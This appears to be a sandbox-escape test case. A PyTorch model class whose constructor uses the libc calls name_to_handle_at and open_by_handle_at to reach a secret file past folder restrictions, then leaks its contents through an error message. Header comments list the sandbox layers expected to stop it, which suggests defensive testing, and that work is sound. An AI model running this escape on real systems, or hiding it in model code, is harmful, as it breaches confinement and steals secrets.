# what: opens the key by its number on the disk, past all folders
# kind: escape
# ends: lift_failed or sandbox
# stopped by: bubblewrap user landlock seccomp

import torch
from torch import nn

libc = torch.ctypes.CDLL(None, use_errno=True)


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        handle = torch.ctypes.create_string_buffer(136)
        torch.ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
        number = torch.ctypes.c_int()
        path = VICTIM["secret"].encode()
        result = libc.name_to_handle_at(-100, path, handle, torch.ctypes.byref(number), 0)
        if result == 0:
            folder = torch.os.open("/", 0)
            result = libc.open_by_handle_at(folder, handle, 0)
        if result < 0:
            raise OSError(torch.ctypes.get_errno(), "refused")
        raise RuntimeError(f"GOT {torch.os.read(result, 64)}")
